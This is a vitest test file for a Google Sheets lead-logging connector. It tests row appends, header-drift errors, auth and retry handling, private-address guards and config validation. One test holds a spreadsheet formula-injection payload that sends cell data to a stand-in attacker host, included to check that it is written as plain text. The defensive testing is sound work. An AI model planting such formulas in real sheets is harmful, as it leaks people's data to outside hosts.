import { generateKeyPairSync } from 'node:crypto';
import { Agent } from 'undici';
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import { GoogleSheetsConfigSchema, googleSheetsConnector } from '../../connectors/google-sheets/index.ts';
import { publicOnlyLookup } from '../../connectors/http-webhook/address.ts';
import type { DeliveryContext, DeliveryResult, OutboundMessage } from '../../connectors/types.ts';
import { LEAD_COLUMNS, leadMessage, startFakeGoogleSheets, type FakeGoogleSheets } from '../support/fakes/google-sheets.ts';

// Seed: "Auto-log every lead and escalation to a Google Sheet using a service account".

const JANE = ['Jane Smith', 'jane@example.com', '+15555550123', 'lead.captured', '2026-05-03T14:22:08Z', 'msg_2wF8kLq9', 'cus_a1b2c3'];

let fake: FakeGoogleSheets;
let ctx: DeliveryContext;

beforeEach(async () => {
  fake = await startFakeGoogleSheets();
  ctx = { dispatcher: new Agent(), allowPrivateDestinations: true, userAgent: 'Wirehub/test' };
});

afterEach(async () => {
  vi.useRealTimers();
  await fake.close();
  await ctx.dispatcher.close();
});

function configFor(overrides: Record<string, unknown> = {}) {
  return GoogleSheetsConfigSchema.parse({
    credentials: fake.serviceAccountKey(),
    spreadsheetId: fake.spreadsheetId,
    columns: LEAD_COLUMNS,
    api_root_url: fake.url,
    ...overrides,
  });
}

const deliver = (config = configFor(), message: OutboundMessage = leadMessage()) => googleSheetsConnector.deliver(ctx, config, message);
const calls = (method: string, pathPart: string) => fake.requests.filter((r) => r.method === method && r.path.includes(pathPart));
const appends = () => calls('POST', ':append');

function failure(result: DeliveryResult) {
  if (result.ok) throw new Error(`expected a failure, got ${JSON.stringify(result)}`);
  return result;
}

describe('delivering leads into the sheet', () => {
  test('the first lead writes the header row, then the lead; the next lead only adds its row', async () => {
    const first = await deliver();
    expect(first).toMatchObject({ ok: true, status: 200, recordId: 'Sheet1!A2:G2', warning: null });
    expect(fake.grid()).toEqual([LEAD_COLUMNS, JANE]);

    const second = await deliver(
      configFor(),
      leadMessage({ name: 'Omar Diaz', email: 'omar@example.com', phone: '+442071838750', eventId: 'msg_9pQ2', customerId: 'cus_z9' }),
    );
    expect(second).toMatchObject({ ok: true, recordId: 'Sheet1!A3:G3', warning: null });
    expect(fake.grid()).toEqual([
      LEAD_COLUMNS,
      JANE,
      ['Omar Diaz', 'omar@example.com', '+442071838750', 'lead.captured', '2026-05-03T14:22:08Z', 'msg_9pQ2', 'cus_z9'],
    ]);
    // The header went in once, as typed (RAW), and each lead was appended as a new row.
    expect(calls('PUT', "/values/'Sheet1'!A1")).toHaveLength(1);
    expect(calls('PUT', '/values/')[0].query).toEqual({ valueInputOption: 'RAW' });
    expect(appends().map((r) => r.query)).toEqual([
      { valueInputOption: 'USER_ENTERED', insertDataOption: 'INSERT_ROWS' },
      { valueInputOption: 'USER_ENTERED', insertDataOption: 'INSERT_ROWS' },
    ]);
  });

  test("the attempt records the append without credentials, and Google's answer", async () => {
    const result = await deliver();
    expect(result.request).toEqual({
      method: 'POST',
      url: `${fake.url}v4/spreadsheets/${fake.spreadsheetId}/values/'Sheet1'!A1:append?valueInputOption=USER_ENTERED&insertDataOption=INSERT_ROWS`,
      headers: {},
      // The apostrophe keeps the phone number text instead of letting Sheets turn it into 15555550123.
      body: JSON.stringify(['Jane Smith', 'jane@example.com', "'+15555550123", 'lead.captured', '2026-05-03T14:22:08Z', 'msg_2wF8kLq9', 'cus_a1b2c3']),
    });
    expect(result.response?.status).toBe(200);
    expect(JSON.parse(result.response?.body ?? '')).toMatchObject({ updates: { updatedRange: 'Sheet1!A2:G2', updatedCells: 7 } });
    expect(JSON.stringify(result)).not.toContain('ya29.');
    // But the vendor did get the token the fake issued.
    expect(appends()[0].authorization).toMatch(/^Bearer ya29\.fake-/);
  });

  test('the nested envelope fills columns from data, dotted paths and envelope fields; objects become JSON text', async () => {
    const config = configFor({ columns: ['id', 'event', 'name', 'email', 'company.name', 'tags', 'score', 'vip', 'notes'] });
    const payload = {
      event: 'escalation.opened',
      timestamp: '2026-05-04T09:00:00Z',
      workspace_id: 'ws_1',
      id: 'evt_7Hq2',
      data: { name: 'Ann Lee', email: 'ann@example.com', company: { name: 'Acme' }, tags: ['vip', 'churn-risk'], score: 42, vip: true },
    };
    const message = { ...leadMessage(), eventId: 'evt_7Hq2', eventType: 'escalation.opened', payload, body: Buffer.from(JSON.stringify(payload)) };
    const result = await deliver(config, message);
    expect(result).toMatchObject({ ok: true, recordId: 'Sheet1!A2:I2' });
    expect(fake.grid()).toEqual([
      ['id', 'event', 'name', 'email', 'company.name', 'tags', 'score', 'vip', 'notes'],
      // `notes` is missing from the event: an empty cell (dropped from the grid's end, like Sheets does).
      ['evt_7Hq2', 'escalation.opened', 'Ann Lee', 'ann@example.com', 'Acme', '["vip","churn-risk"]', '42', 'TRUE'],
    ]);
  });

  test('text that looks like a formula is written as text, not run', async () => {
    const evil = '=IMPORTXML("https://attacker.example/?q="&B2,"//a")';
    await deliver(configFor(), leadMessage({ name: evil }));
    expect(appends()[0].body).toMatchObject({
      values: [[`'${evil}`, 'jane@example.com', "'+15555550123", 'lead.captured', '2026-05-03T14:22:08Z', 'msg_2wF8kLq9', 'cus_a1b2c3']],
    });
    expect(fake.grid()[1][0]).toBe(evil);
  });

  test('a burst of first leads writes the header once', async () => {
    const results = await Promise.all(['a', 'b', 'c'].map((n) => deliver(configFor(), leadMessage({ name: n, eventId: `msg_${n}` }))));
    expect(results.every((r) => r.ok)).toBe(true);
    expect(calls('PUT', '/values/')).toHaveLength(1);
    expect(fake.grid()[0]).toEqual(LEAD_COLUMNS);
    expect(
      fake
        .grid()
        .slice(1)
        .map((r) => r[0])
        .sort(),
    ).toEqual(['a', 'b', 'c']);
  });

  test('one token serves many deliveries (and the connection test)', async () => {
    for (let i = 0; i < 4; i++) expect((await deliver(configFor(), leadMessage({ eventId: `msg_${i}` }))).ok).toBe(true);
    expect((await googleSheetsConnector.testConnection(ctx, configFor())).ok).toBe(true);
    expect(fake.tokenRequests()).toBe(1);
    expect(fake.grid()).toHaveLength(5);
    const bearers = new Set(fake.requests.filter((r) => r.path.startsWith('/v4/')).map((r) => r.authorization));
    expect(bearers.size).toBe(1);
  });

  test('a sheet tab other than Sheet1, with a name that needs quoting', async () => {
    fake.addSheet("Q2 Leads – it's live");
    const result = await deliver(configFor({ sheetName: "Q2 Leads – it's live" }));
    expect(result).toMatchObject({ ok: true, recordId: "'Q2 Leads – it''s live'!A2:G2" });
    expect(fake.grid("Q2 Leads – it's live")).toEqual([LEAD_COLUMNS, JANE]);
    expect(fake.grid('Sheet1')).toEqual([]);
  });
});

describe('the header row drifting from the configured columns', () => {
  test('a renamed header cell stops deliveries with SCHEMA_DRIFT and a warning; fixing it resumes with the warning cleared', async () => {
    fake.setRow(0, [...LEAD_COLUMNS]);
    fake.setRow(1, JANE);
    fake.renameHeaderCell(1, 'E-mail');

    const drifted = failure(await deliver());
    expect(drifted).toMatchObject({ retryable: false, errorCode: 'SCHEMA_DRIFT' });
    expect(drifted.error).toContain('column B is "E-mail", expected "email"');
    expect(drifted.warning).toBe(drifted.error);
    expect(appends()).toHaveLength(0);
    expect(calls('PUT', '/values/')).toHaveLength(0);
    expect(fake.grid()).toEqual([['name', 'E-mail', ...LEAD_COLUMNS.slice(2)], JANE]);

    fake.renameHeaderCell(1, 'email');
    const fixed = await deliver();
    expect(fixed).toMatchObject({ ok: true, warning: null, recordId: 'Sheet1!A3:G3' });
    expect(fake.grid()).toEqual([LEAD_COLUMNS, JANE, JANE]);
  });

  test('a reordered or cleared header names every differing column', async () => {
    fake.setRow(0, ['email', 'name', 'phone', 'eventType', 'eventTimestamp', 'eventId']);
    const drifted = failure(await deliver());
    expect(drifted.errorCode).toBe('SCHEMA_DRIFT');
    expect(drifted.error).toContain('column A is "email", expected "name"; "name" is in column B');
    expect(drifted.error).toContain('column B is "name", expected "email"; "email" is in column A');
    expect(drifted.error).toContain('column G is empty, expected "customerId"');
    expect(fake.grid()).toHaveLength(1);
  });

  test('columns the owner added to the right of ours are left alone', async () => {
    fake.setRow(0, [...LEAD_COLUMNS, 'Status', 'Owner']);
    expect(await deliver()).toMatchObject({ ok: true, recordId: 'Sheet1!A2:G2' });
    expect(fake.grid()[1]).toEqual(JANE);
  });

  test('a verified header is trusted for 30 s, then read again, so a later rename is caught', async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    expect((await deliver()).ok).toBe(true);
    expect((await deliver()).ok).toBe(true);
    expect(calls('GET', '!1:1')).toHaveLength(1);

    fake.renameHeaderCell(2, 'Phone number');
    vi.setSystemTime(Date.now() + 31_000);
    const drifted = failure(await deliver());
    expect(drifted.errorCode).toBe('SCHEMA_DRIFT');
    expect(drifted.error).toContain('column C is "Phone number", expected "phone"');
    expect(fake.grid()).toHaveLength(3);
  });
});

describe('failures', () => {
  test('403: final, AUTH, and says whom to share the spreadsheet with', async () => {
    fake.setMode('auth');
    const result = failure(await deliver());
    expect(result).toMatchObject({ retryable: false, errorCode: 'AUTH', status: 403 });
    expect(result.error).toBe(`Google Sheets denied access to spreadsheet ${fake.spreadsheetId}. Share the spreadsheet with ${fake.clientEmail} (as Editor).`);
    expect(result.response?.status).toBe(403);
    expect(fake.grid()).toEqual([]);
  });

  test('404 (a wrong spreadsheet ID): final', async () => {
    const result = failure(await deliver(configFor({ spreadsheetId: '1NoSuchSpreadsheetAtAll_000000000000000000' })));
    expect(result).toMatchObject({ retryable: false, errorCode: 'AUTH', status: 404 });
    expect(result.error).toContain('Spreadsheet 1NoSuchSpreadsheetAtAll_000000000000000000 was not found');
    expect(result.error).toContain(fake.clientEmail);

    fake.setMode('not-found');
    expect(failure(await deliver())).toMatchObject({ retryable: false, status: 404 });
  });

  test('a missing sheet tab: final, and names the tab', async () => {
    const result = failure(await deliver(configFor({ sheetName: 'Leads' })));
    expect(result).toMatchObject({ retryable: false, errorCode: 'CONFIG', status: 400 });
    expect(result.error).toContain('has no sheet "Leads"');
    expect(fake.grid()).toEqual([]);
  });

  test('429 is retried after the Retry-After Google sent; 500 is retried', async () => {
    fake.setMode('rate-limited');
    expect(failure(await deliver())).toMatchObject({ retryable: true, status: 429, retryAfterMs: 7000, errorCode: 'HTTP_STATUS' });
    fake.setMode('server-error');
    expect(failure(await deliver())).toMatchObject({ retryable: true, status: 500, errorCode: 'HTTP_STATUS' });
    fake.setMode('ok');
    expect(await deliver()).toMatchObject({ ok: true, recordId: 'Sheet1!A2:G2' });
    expect(fake.grid()).toEqual([LEAD_COLUMNS, JANE]);
  });

  test('a 429 on the append itself, after the header was verified, is retryable and writes nothing', async () => {
    expect((await deliver()).ok).toBe(true);
    fake.setMode('rate-limited');
    const result = failure(await deliver());
    expect(result).toMatchObject({ retryable: true, status: 429, retryAfterMs: 7000 });
    expect(result.request.url).toContain(':append');
    expect(fake.grid()).toHaveLength(2);
  });

  test('Google refusing the key (invalid_grant) is final AUTH; once the key is accepted again, delivery resumes', async () => {
    fake.setTokenMode('invalid_grant');
    const refused = failure(await deliver());
    expect(refused).toMatchObject({ retryable: false, errorCode: 'AUTH', status: 400 });
    expect(refused.error).toContain('invalid_grant');
    expect(refused.error).toContain(fake.clientEmail);
    expect(refused.request.url).toBe(fake.tokenUrl);
    expect(fake.requests.filter((r) => r.path.startsWith('/v4/'))).toHaveLength(0);

    fake.setTokenMode('ok');
    expect((await deliver()).ok).toBe(true);
  });

  test("a key that is not the service account's (bad signature) is final AUTH", async () => {
    const other = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
    const result = failure(await deliver(configFor({ credentials: fake.serviceAccountKey({ private_key: other }) })));
    expect(result).toMatchObject({ retryable: false, errorCode: 'AUTH' });
    expect(result.error).toContain('Invalid JWT Signature');
  });

  test('a private key that is not a key at all is final AUTH without calling Google', async () => {
    const result = failure(
      await deliver(configFor({ credentials: fake.serviceAccountKey({ private_key: '-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n' }) })),
    );
    expect(result).toMatchObject({ retryable: false, errorCode: 'AUTH' });
    expect(result.error).toContain(`The private key of ${fake.clientEmail} cannot be used`);
    expect(fake.requests).toHaveLength(0);
  });

  test('the token endpoint being down is retryable', async () => {
    fake.setTokenMode('unavailable');
    expect(failure(await deliver())).toMatchObject({ retryable: true, status: 503 });
  });

  test('Google unreachable is retryable', async () => {
    const config = configFor();
    await fake.close();
    expect(failure(await deliver(config))).toMatchObject({ retryable: true, errorCode: 'CONNECTION_REFUSED' });
    fake = await startFakeGoogleSheets();
  });

  test('an event body that is not JSON is final PAYLOAD', async () => {
    const result = failure(
      await deliver(configFor(), { ...leadMessage(), payload: undefined, body: Buffer.from('name=Jane'), contentType: 'application/x-www-form-urlencoded' }),
    );
    expect(result).toMatchObject({ retryable: false, errorCode: 'PAYLOAD' });
    expect(fake.requests).toHaveLength(0);
  });

  test("columns that match none of the event's fields are final PAYLOAD, not a blank row", async () => {
    const result = failure(await deliver(configFor({ columns: ['Name', 'Email'] })));
    expect(result).toMatchObject({ retryable: false, errorCode: 'PAYLOAD' });
    expect(result.error).toBe(
      'None of the columns is a field of this event. Its fields are: name, email, phone, eventType, eventTimestamp, eventId, customerId.',
    );
    expect(fake.requests).toHaveLength(0);
  });
});

describe('private addresses', () => {
  test('allowPrivateDestinations=false refuses a loopback api_root_url or token_uri before any request', async () => {
    const strict = { ...ctx, allowPrivateDestinations: false };
    const viaRoot = failure(await googleSheetsConnector.deliver(strict, configFor(), leadMessage()));
    expect(viaRoot).toMatchObject({ retryable: false, errorCode: 'PRIVATE_ADDRESS' });
    expect(viaRoot.error).toContain('127.0.0.1');

    // Google's real API root, but a token_uri pointing inside the network.
    const viaToken = failure(await googleSheetsConnector.deliver(strict, configFor({ api_root_url: undefined }), leadMessage()));
    expect(viaToken).toMatchObject({ retryable: false, errorCode: 'PRIVATE_ADDRESS' });

    const test = await googleSheetsConnector.testConnection(strict, configFor());
    expect(test.ok).toBe(false);
    expect(test.message).toContain('private address');
    expect(fake.requests).toHaveLength(0);
  });

  test("requests go through the hub's dispatcher, so its DNS guard applies to a name resolving to loopback", async () => {
    const guarded = new Agent({ connect: { lookup: publicOnlyLookup as never } });
    try {
      const result = failure(
        await googleSheetsConnector.deliver(
          { ...ctx, dispatcher: guarded },
          configFor({ api_root_url: fake.url.replace('127.0.0.1', 'localhost') }),
          leadMessage(),
        ),
      );
      expect(result).toMatchObject({ retryable: false, errorCode: 'PRIVATE_ADDRESS' });
      expect(fake.requests.filter((r) => r.path.startsWith('/v4/'))).toHaveLength(0);
    } finally {
      await guarded.close();
    }
  });
});

describe('testing the connection', () => {
  test('ok: names the spreadsheet and the sheet, writes nothing', async () => {
    fake.setRow(0, [...LEAD_COLUMNS]);
    const result = await googleSheetsConnector.testConnection(ctx, configFor());
    expect(result).toMatchObject({ ok: true, message: 'Connected to "Leads 2026", sheet "Sheet1"', warnings: [] });
    expect(fake.requests.filter((r) => r.method !== 'GET' && r.path !== '/token')).toHaveLength(0);
    expect(calls('GET', `/v4/spreadsheets/${fake.spreadsheetId}`)[0].query).toEqual({ fields: 'properties.title,sheets.properties.title' });
  });

  test('an empty sheet is fine: the header comes with the first row', async () => {
    const result = await googleSheetsConnector.testConnection(ctx, configFor());
    expect(result.ok).toBe(true);
    expect(result.message).toContain('the header row will be written before the first row');
    expect(fake.grid()).toEqual([]);
  });

  test('header drift: not ok, with the drift as a warning', async () => {
    fake.setRow(0, ['name', 'mail', ...LEAD_COLUMNS.slice(2)]);
    const result = await googleSheetsConnector.testConnection(ctx, configFor());
    expect(result.ok).toBe(false);
    expect(result.warnings).toHaveLength(1);
    expect(result.warnings[0]).toContain('column B is "mail", expected "email"');
    expect(result.message).toContain(result.warnings[0]);
  });

  test('a drift the test finds stops deliveries at once, even within the 30 s the header was trusted', async () => {
    expect((await deliver()).ok).toBe(true);
    fake.renameHeaderCell(0, 'Full name');
    expect((await googleSheetsConnector.testConnection(ctx, configFor())).ok).toBe(false);
    expect(failure(await deliver()).errorCode).toBe('SCHEMA_DRIFT');
    expect(fake.grid()).toHaveLength(2);
  });

  test('not shared with the service account: says whom to share with', async () => {
    fake.setMode('auth');
    const result = await googleSheetsConnector.testConnection(ctx, configFor());
    expect(result.ok).toBe(false);
    expect(result.message).toContain(`Share the spreadsheet with ${fake.clientEmail} (as Editor)`);
  });

  test('a missing sheet tab: lists the tabs there are', async () => {
    const result = await googleSheetsConnector.testConnection(ctx, configFor({ sheetName: 'Escalations' }));
    expect(result.ok).toBe(false);
    expect(result.message).toBe(
      'Connected to "Leads 2026", but it has no sheet "Escalations" (its sheets: "Sheet1"). Create the tab or change the sheet name.',
    );
  });
});

describe('config', () => {
  const valid = () => ({ credentials: fake.serviceAccountKey(), spreadsheetId: fake.spreadsheetId, columns: LEAD_COLUMNS });
  const issues = (input: unknown) => {
    const r = GoogleSheetsConfigSchema.safeParse(input);
    return r.success ? [] : r.error.issues.map((i) => `${i.path.join('.')}: ${i.message}`);
  };

  test('defaults the sheet to Sheet1 and stores the key as an object', () => {
    const config = GoogleSheetsConfigSchema.parse(valid());
    expect(config.sheetName).toBe('Sheet1');
    expect(config.credentials?.client_email).toBe(fake.clientEmail);
    expect(config.api_root_url).toBeUndefined();
  });

  test('a stored (parsed) config parses again to itself, as the delivery engine re-parses it', () => {
    const once = GoogleSheetsConfigSchema.parse({
      ...valid(),
      credentials: JSON.stringify({ ...fake.serviceAccountKey(), private_key: fake.serviceAccountKey().private_key.replace(/\n/g, '\\n') }),
      spreadsheetId: `https://docs.google.com/spreadsheets/d/${fake.spreadsheetId}/edit`,
      api_root_url: fake.url.slice(0, -1),
    });
    expect(once.credentials?.private_key).toBe(fake.serviceAccountKey().private_key.trim());
    expect(once.api_root_url).toBe(fake.url);
    expect(GoogleSheetsConfigSchema.parse(JSON.parse(JSON.stringify(once)))).toEqual(once);
  });

  test("accepts the key pasted as JSON text, and the spreadsheet's URL", () => {
    const config = GoogleSheetsConfigSchema.parse({
      ...valid(),
      credentials: JSON.stringify(fake.serviceAccountKey()),
      spreadsheetId: `https://docs.google.com/spreadsheets/d/${fake.spreadsheetId}/edit#gid=0`,
    });
    expect(config.credentials?.type).toBe('service_account');
    expect(config.spreadsheetId).toBe(fake.spreadsheetId);
  });

  test('rejects missing, empty, duplicate and too many columns', () => {
    const { columns: _, ...noColumns } = valid();
    expect(issues(noColumns)).toEqual([expect.stringMatching(/^columns: /)]);
    expect(issues({ ...valid(), columns: [] })).toEqual(['columns: at least one column']);
    expect(issues({ ...valid(), columns: ['name', 'email', 'email'] })).toEqual(['columns.2: duplicate column "email"']);
    expect(issues({ ...valid(), columns: Array.from({ length: 101 }, (_, i) => `c${i}`) })).toEqual(['columns: at most 100 columns']);
  });

  test('rejects a key that is not a service account key, or is not JSON', () => {
    const userKey = { type: 'authorized_user', client_id: 'x.apps.googleusercontent.com', client_secret: 's', refresh_token: 'r' };
    expect(issues({ ...valid(), credentials: userKey })).toContain(
      'credentials.type: must be a service account key ("type": "service_account"), not an OAuth client or user key',
    );
    expect(issues({ ...valid(), credentials: 'not json' })).toEqual([expect.stringContaining('credentials: must be the service account JSON key')]);
    expect(issues({ ...valid(), credentials: { ...fake.serviceAccountKey(), private_key: 'secret' } })).toEqual([
      expect.stringContaining('credentials.private_key: must be the PEM private key'),
    ]);
  });

  test('rejects unknown keys and an api_root_url with a path', () => {
    expect(issues({ ...valid(), range: 'A1' })).toEqual([expect.stringContaining('Unrecognized key')]);
    expect(issues({ ...valid(), api_root_url: 'https://proxy.example/google/' })).toEqual([expect.stringContaining('api_root_url: must be an origin')]);
  });
});
